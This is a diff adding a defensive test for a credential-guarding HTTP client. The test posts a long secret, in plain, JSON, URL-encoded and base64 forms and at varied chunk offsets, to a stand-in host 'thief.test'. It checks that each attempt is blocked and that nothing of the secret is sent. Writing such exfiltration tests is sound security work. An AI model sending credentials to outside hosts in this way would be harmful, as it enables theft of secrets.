@@ -109,6 +109,32 @@ test('finding 6: of a streamed body with a secret, nothing of the secret is sent
   expect(Buffer.concat(streamed).toString()).toMatch(/^x+$/);
 });
 
+const long = Array.from({ length: 8_000 }, (_, n) => `${n} é/`).join('');
+/** Places an offset in the second of the larger pieces in which bytes are searched. */
+const filling = Buffer.alloc(196_608, '-');
+const longForms: [string, string][] = [
+  ['plain', long],
+  ['in JSON', JSON.stringify({ long })],
+  ['URL-encoded', encodeURIComponent(long)],
+  ['in base64', Buffer.from(`:${long}`).toString('base64')],
+];
+
+// Bytes are searched in pieces: each offset places the secret differently across two of them.
+test.each(longForms)('finding 6: a secret longer than the overlap of searched pieces is found, %s', async (_, form) => {
+  const credentials = new HandedOutCredentials();
+  credentials.add('c', long, only('https://home.test'));
+  for (const offset of [1, 20_000, 49_100, 49_152, 60_000, 65_500]) {
+    const bytes = Buffer.from(`${'-'.repeat(offset)}${form}`);
+    const bodies = [streamOf([bytes.subarray(0, 65_536), bytes.subarray(65_536)]), Buffer.concat([filling, bytes])];
+    for (const body of bodies) {
+      const { http, streamed } = aClient();
+      const sending = credentials.guarded(http).request({ method: 'POST', url: 'https://thief.test/', body }, signal);
+      await expect(sending).rejects.toMatchObject({ code: 'CREDENTIAL_HOST_NOT_ALLOWED' });
+      expect(Buffer.concat(streamed).toString()).toMatch(/^-*$/);
+    }
+  }
+});
+
 test.each([0, 1, 65_535, 65_536, 65_537, 500_000])('a streamed body of %d bytes arrives unchanged', async (size) => {
   const { http, streamed } = aClient();
   const credentials = new HandedOutCredentials();
